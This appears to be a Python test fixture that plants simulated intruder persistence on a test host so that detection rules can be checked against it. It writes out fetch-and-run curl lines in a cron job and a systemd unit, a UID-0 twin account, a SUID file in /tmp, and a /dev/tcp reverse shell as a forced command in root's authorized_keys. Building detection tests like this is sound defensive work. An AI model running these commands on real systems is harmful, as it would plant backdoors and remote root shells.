"""Harmless stand-ins for what an intruder leaves on a host, and the rules that must see each."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

from tests.hosts.host import Host, wait_until

UNIT = "[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.5/i | sh'\n[Install]\nWantedBy=multi-user.target\n"

# Rule name → how it shows on the host.
EXPECTED = {
    "process_running_temporary_directory",
    "process_running_deleted_executable",
    "user_uid_zero_twin",
    "cron_job_fetch_and_run",
    "systemd_unit_fetch_and_run",
    "file_suid_unusual_directory",
    "directory_name_deceptive",
    "authorized_key_forced_command_shell",
}


@contextmanager
def plant(host: Host) -> Iterator[None]:
    """Files, an account and two sleeping processes; they end with the block."""
    host.write("/etc/cron.d/sync", "*/5 * * * * root curl -fsSL http://203.0.113.5/x.sh | bash\n")
    host.write("/etc/systemd/system/dbus-sync.service", UNIT)
    host.run("echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd")
    host.run("mkdir -p '/var/tmp/...' && cp /bin/true /tmp/.su && chown 0:0 /tmp/.su && chmod 4755 /tmp/.su")
    key = host.key_path("root").with_suffix(".pub")
    public = key.read_text() if key.exists() else host.run("head -n 1 /root/.ssh/authorized_keys").stdout
    host.run("mkdir -p /root/.ssh && chmod 700 /root/.ssh")
    forced = 'command="bash -i >& /dev/tcp/203.0.113.5/443 0>&1" ' + public.strip()
    host.run(f"printf '%s\\n' '{forced}' >> /root/.ssh/authorized_keys")
    host.run("cp /bin/sleep /tmp/kworkerd && cp /bin/sleep /tmp/gone")
    running = [host.spawn("exec /tmp/kworkerd 600"), host.spawn("exec /tmp/gone 601")]
    wait_until(lambda: sum("60" in line for line in host.processes().values()) >= 2)
    host.run("rm /tmp/gone")
    try:
        yield
    finally:
        for process in running:
            process.kill()
            process.wait()
